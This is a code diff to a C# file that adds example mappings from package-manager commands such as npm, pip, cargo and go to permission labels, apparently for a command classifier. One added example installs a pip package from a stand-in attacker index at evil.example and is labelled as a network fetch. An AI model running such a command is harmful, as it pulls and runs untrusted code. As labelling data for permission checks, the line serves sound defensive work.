@@ -275,6 +275,15 @@ internal static class Packages
         """u8;
 
     public static ReadOnlySpan<byte> Examples => """
-
+        npm ls -> packages.read
+        npm install lodash -> packages.install
+        npm publish -> packages.publish
+        npm test -> tests.run
+        npm run build -> build.run
+        pip install -r req.txt -> packages.install, file.read req.txt
+        pip install --index-url https://evil.example/simple x -> packages.install, network.fetch evil.example:443
+        cargo build --release -> build.run
+        go test ./... -> tests.run
+        brew list -> packages.read
         """u8;
 }
